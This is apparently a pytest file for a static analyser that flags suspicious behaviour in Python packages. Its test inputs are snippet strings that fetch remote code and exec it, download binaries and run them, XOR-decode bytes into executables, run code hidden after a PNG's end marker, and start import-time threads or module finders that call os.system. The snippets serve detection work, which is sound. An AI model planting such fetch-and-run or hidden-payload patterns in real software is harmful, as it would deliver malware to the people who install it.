"""What clients of other services bring, what is saved and unpacked, and what runs by itself in threads and build tools."""

from __future__ import annotations

import pytest

from bonded.facts import prefilter
from bonded.facts.known import canonical
from bonded.facts.model import Call
from bonded.facts.value import CHARS, CODE, DECODED, DOWNLOADED, EMBEDDED, MESSAGE
from bonded.values.finding import When
from tests.facts.programs import wheel_of


def calls(members: str | dict[str, str]) -> list[Call]:
    found = members if isinstance(members, dict) else {"sample/__init__.py": members}
    return [call for module in wheel_of(found).modules for call in module.calls]


def labels(source: str, name: str) -> set[str]:
    return {label for call in calls(source) if call.name == name for one in call.arguments for label in one.labels}


@pytest.mark.parametrize(
    "source",
    [
        "from web3 import Web3\nw = Web3(Web3.HTTPProvider(u))\nexec(w.eth.contract(address=a).functions.body().call())",
        "import boto3\nexec(boto3.client('s3').get_object(Bucket='b', Key='k')['Body'].read())",
        "from github import Github\nexec(Github().get_repo('x/y').get_contents('z').decoded_content)",
        "import io, pycurl\nb, c = io.BytesIO(), pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())",
        "import fsspec\nwith fsspec.open('https://a.example.invalid/x', 'rt') as f:\n    exec(f.read())",
        "from pip._internal.network.session import PipSession\nexec(PipSession().get('https://a.example.invalid/x').text)",
        "import httpx\nfrom concurrent.futures import ThreadPoolExecutor as P\nP(1).submit(httpx.get, 'https://a.example.invalid').add_done_callback(lambda f: exec(f.result().text))",
    ],
)
def test_what_other_clients_give_was_written_by_others(source: str) -> None:
    assert DOWNLOADED in labels(source, "builtins.exec")


@pytest.mark.parametrize(
    "source",
    [
        "import fsspec\nwith fsspec.open('data.txt', 'rt') as f:\n    exec(f.read())",
        "import store\nexec(store.open('https://a.example.invalid/x'))",
        "import gspread\nrows = [eval(one) for one in gspread.service_account().open('x').sheet1.get_all_values()]",
        "import pandas as pd\nrows = [eval(one) for one in pd.read_csv('https://a.example.invalid/t.csv')['lists']]",
    ],
)
def test_what_is_opened_here_was_not_fetched(source: str) -> None:
    found = calls({"sample/__init__.py": source, "store.py": "def open(name):\n    return name\n"})
    assert not [one for call in found for argument in call.arguments for one in argument.labels if one == DOWNLOADED]


@pytest.mark.parametrize(
    "saved",
    [
        "import gdown\ngdown.download('https://a.example.invalid/x', 'tool.bin', quiet=True)",
        "import gdown\ngdown.download('https://a.example.invalid/x', output='tool.bin')",
        "import torch\ntorch.hub.download_url_to_file('https://a.example.invalid/x', 'tool.bin')",
        "import ctypes\nctypes.windll.urlmon.URLDownloadToFileW(None, 'https://a.example.invalid/x', 'tool.bin', 0, None)",
        "import boto3\nboto3.client('s3').download_file('bucket', 'key', 'tool.bin')",
        "import aiofiles, httpx\nasync with aiofiles.open('tool.bin', 'wb') as f:\n    await f.write(httpx.get('https://a.example.invalid').content)",
    ],
)
def test_what_clients_save_is_known_by_its_path(saved: str) -> None:
    assert DOWNLOADED in labels(f"{saved}\nimport subprocess\nsubprocess.run(['./tool.bin'])", "subprocess.run")


def test_a_descriptor_stands_for_its_file() -> None:
    source = """
import os, subprocess, tempfile, urllib.request
handle, name = tempfile.mkstemp()
with os.fdopen(handle, "wb") as stream:
    stream.write(urllib.request.urlopen("https://a.example.invalid").read())
subprocess.run([name])
"""
    assert DOWNLOADED in labels(source, "subprocess.run")


def test_a_path_object_is_known_by_its_parts() -> None:
    source = """
import pathlib, requests, subprocess
place = pathlib.Path.home().joinpath(".cache", "tool")
place.write_bytes(requests.get("https://a.example.invalid").content)
subprocess.run(place.as_posix())
subprocess.call(str(pathlib.Path(__file__).with_name("other")))
"""
    assert DOWNLOADED in labels(source, "subprocess.run")
    assert [one.arguments[0].text for one in calls(source) if one.name == "subprocess.call"] == ["/sample/other"]


def test_a_line_of_python_that_was_fetched_is_code() -> None:
    source = """
import httpx, subprocess, sys
subprocess.run([sys.executable, "-c", httpx.get("https://a.example.invalid").json()["text"]])
subprocess.run(["sample", "-c", httpx.get("https://a.example.invalid").json()["text"]])
"""
    assert [call.line for call in calls(source) if call.name == "builtins.exec"] == [3]


def test_what_is_looked_for_has_the_shape_of_the_pattern() -> None:
    source = "import glob\nfor one in glob.glob('/home/*/.bashrc'):\n    open(one, 'a').write('true')"
    assert "/home/*/.bashrc" in {argument.shape for call in calls(source) for argument in call.arguments}


def test_bytes_that_were_changed_and_written_were_hidden() -> None:
    source = """
import os
with open("table.dat", "rb") as source, open("tool.bin", "wb") as target:
    target.write(bytes([one {} 31 for one in source.read()]))
os.system("tool.bin")
"""
    assert DECODED in labels(source.format("^"), "os.system")
    assert DECODED not in labels(source.format("*"), "os.system")


@pytest.mark.parametrize("inserted", ["Finder()", "Finder"])
def test_what_finds_modules_runs_at_the_next_import(inserted: str) -> None:
    finder = (
        "import os\nclass Finder:\n    def find_spec(self, name, path=None, target=None):\n        os.system('true')\n"
    )
    (found,) = calls({"sample/__init__.py": f"import sys\n{finder}sys.meta_path.insert(0, {inserted})"})
    assert found.when is When.IMPORT
    start = f"import sys\nfrom .finder import Finder\nsys.meta_path.append({inserted})"
    (found,) = calls({"sample/__init__.py": start, "sample/finder.py": finder})
    assert found.when is (When.IMPORT if inserted.endswith(")") else found.when)


def test_a_function_that_is_given_to_a_thread_elsewhere_runs() -> None:
    members = {
        "sample/__init__.py": "import threading\nfrom .line import listen\nthreading.Thread(target=listen).start()",
        "sample/line.py": "import os\ndef listen():\n    os.system('true')",
    }
    (found,) = calls(members)
    assert found.when is When.IMPORT


@pytest.mark.parametrize("first", [True, False])
def test_what_answers_on_a_line_is_heard_wherever_it_stands(first: bool) -> None:
    answers = "def answer(line, message):\n    os.system(message)\n"
    listens = "def listen():\n    websocket.WebSocketApp('wss://a.example.invalid', on_message=answer).run_forever()\n"
    source = f"import os, websocket\n{answers if first else listens}{listens if first else answers}listen()"
    assert MESSAGE in labels(source, "os.system")


def test_of_a_compiled_expression_eval_runs_no_more_than_that() -> None:
    source = "import httpx\ntext = httpx.get('https://a.example.invalid').json()['x']\neval(compile(text, 'x', '{}'))"
    assert CODE in labels(source.format("exec"), "builtins.eval")
    assert CODE not in labels(source.format("eval"), "builtins.eval")


@pytest.mark.parametrize(("start", "when"), [("", When.IMPORT), ("def start():\n    ", When.CALL)])
def test_javascript_runs_when_python_hands_it_to_its_interpreter(start: str, when: When) -> None:
    source = f"import subprocess\n{start}subprocess.run(['node', 'sample/index.js'])"
    (script,) = wheel_of({"sample/__init__.py": source, "sample/index.js": "eval('1')"}).scripts
    assert (script.language, script.when) == ("JavaScript", when)


def test_what_a_loop_of_a_web_framework_is_given_answers_nobody() -> None:
    source = """
import os, tornado.ioloop
def show(place):
    os.system(place)
def start(place):
    tornado.ioloop.IOLoop.current().spawn_callback(show, place)
"""
    assert MESSAGE not in labels(source, "os.system")


@pytest.mark.parametrize(
    "way", ["from .examples import start", "import importlib\nimportlib.import_module('.examples.start', __name__)"]
)
def test_examples_that_are_imported_run(way: str) -> None:
    members = {
        "sample/__init__.py": way,
        "sample/examples/__init__.py": "",
        "sample/examples/start.py": "import os\nos.system('true')",
    }
    assert [call.when for call in calls(members)] == [When.IMPORT]


def test_a_repository_that_was_copied_here_is_fetched() -> None:
    source = "import git, os\ngit.Repo.clone_from('https://a.example.invalid/x.git', '/srv/x')\nos.system('python /srv/x/main.py')"
    assert DOWNLOADED in labels(source, "os.system")


@pytest.mark.parametrize(("extra", "label"), [("", EMBEDDED), (", pwd=b'x'", DECODED)])
def test_what_an_archive_of_the_package_holds_is_its_own_program(extra: str, label: str) -> None:
    source = f"""
import os, subprocess, zipfile
with zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "parts.zip")) as archive:
    archive.extractall("/tmp/parts"{extra})
subprocess.run(["/tmp/parts/run"])
"""
    assert label in labels(source, "subprocess.run")
    elsewhere = source.replace("os.path.dirname(__file__)", "os.getcwd()")
    assert not {EMBEDDED, DECODED} & labels(elsewhere, "subprocess.run")


def test_what_is_run_out_of_a_picture_was_hidden_there() -> None:
    source = "exec(open('{}', 'rb').read().split(b'IEND')[-1])"
    assert DECODED in labels(source.format("logo.png"), "builtins.exec")
    assert DECODED not in labels(source.format("settings.cfg"), "builtins.exec")


def test_bytes_that_were_counted_round_are_spelled() -> None:
    source = """
import ctypes
with open("font.dat", "rb") as stream:
    data = bytes([({}) for one in stream.read()])
with open("x.so", "wb") as stream:
    stream.write(data)
ctypes.CDLL("x.so")
"""
    for changed in ("(one - 3) & 255", "(one + 7) % 256", "one ^ 5"):
        assert CHARS in labels(source.format(changed), "ctypes.CDLL")
    assert CHARS not in labels(source.format("one * 2"), "ctypes.CDLL")


def test_a_thread_of_another_module_runs_when_it_is_started() -> None:
    thread = "import os, threading\nclass Sync(threading.Thread):\n    def run(self):\n        os.system('true')\n"
    (found,) = calls({"sample/__init__.py": "from .sync import Sync\nSync().start()", "sample/sync.py": thread})
    assert found.when is When.IMPORT
    (found,) = calls({"sample/__init__.py": "from .sync import Sync\nSync()", "sample/sync.py": thread})
    assert found.when is When.CALL


def test_build_tools_run_programs_by_a_method_of_their_own() -> None:
    assert canonical("setuptools.command.install.install().spawn") == "distutils.spawn.spawn"
    assert canonical("distutils.ccompiler.new_compiler().spawn") == "distutils.spawn.spawn"
    assert canonical("multiprocessing.context.Process().spawn") != "distutils.spawn.spawn"


def test_a_program_that_is_looked_for_is_known_by_its_name() -> None:
    (found,) = calls(
        "import shutil, subprocess\nsubprocess.run([shutil.which('curl') or shutil.which('wget'), '--version'])"
    )
    assert found.arguments[0].text == "curl --version"


@pytest.mark.parametrize(
    ("source", "read"),
    [
        (b"import thing\nexec(thing.load('https://a.example.invalid'))", True),
        (b"import thing\nprint('exec', thing.load('https://a.example.invalid'))", False),
        (b"import ctypes\nctypes.CDLL(made(open('x').read()))", True),
        (b"import ctypes\nctypes.CDLL('libm.so.6')", False),
    ],
)
def test_few_more_files_are_read(source: bytes, read: bool) -> None:
    assert prefilter.matters(source, prefilter.hits(source)) == read
    long = source + b"\n" * prefilter.SMALL
    assert not prefilter.matters(long, prefilter.hits(long))
